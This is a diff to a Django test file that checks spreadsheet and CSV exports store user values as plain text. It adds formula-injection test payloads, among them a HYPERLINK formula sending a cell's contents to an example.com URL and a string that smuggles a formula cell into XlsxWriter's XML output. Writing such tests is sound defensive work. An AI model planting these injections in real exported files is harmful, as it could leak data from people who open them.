@@ -21,7 +21,9 @@ from tests.factories import HouseholdFactory, MemberFactory
 
 pytestmark = pytest.mark.django_db
 
-PAYLOADS = ["=1+1", '=HYPERLINK("http://example.com/?id="&C4,"点击查看")', "@SUM(A1:A9)", "-2+3", "+1-1"]
+PAYLOADS = ["=1+1", '=HYPERLINK("http://example.com/?id="&C4,"点击查看")', "@SUM(A1:A9)", "-2+3", "+1-1",
+            # XlsxWriter writes a string shaped like its own rich-string XML without escaping it
+            '<r><t>a</t></r></is></c><c r="Z1"><f>HYPERLINK("http://example.com")</f></c><c><is><r><t>b</t></r>']
 
 
 def _cells(workbook):
@@ -29,6 +31,7 @@ def _cells(workbook):
 
 
 def assert_text(workbook, payload: str) -> None:
+    assert not [cell for cell in _cells(workbook) if cell.data_type == "f"], "a cell became a formula"
     cells = [cell for cell in _cells(workbook) if cell.value == payload]
     assert cells, f"{payload!r} is missing from the workbook"
     assert all(cell.data_type == "s" for cell in cells), f"{payload!r} is stored as {cells[0].data_type}"
@@ -62,7 +65,7 @@ def test_findings_export_xlsx_and_csv(users, client_for):
 
     text = _download(client.get(url + "?format=csv")).decode("utf-8-sig")
     exported = {row["name"] for row in csv.DictReader(io.StringIO(text))}
-    assert {"'" + payload for payload in PAYLOADS} <= exported
+    assert {("'" + payload) if payload[0] in "=+-@" else payload for payload in PAYLOADS} <= exported
 
 
 def test_clue_ledger_keeps_summary_and_people_as_text(users, regions, client_for):
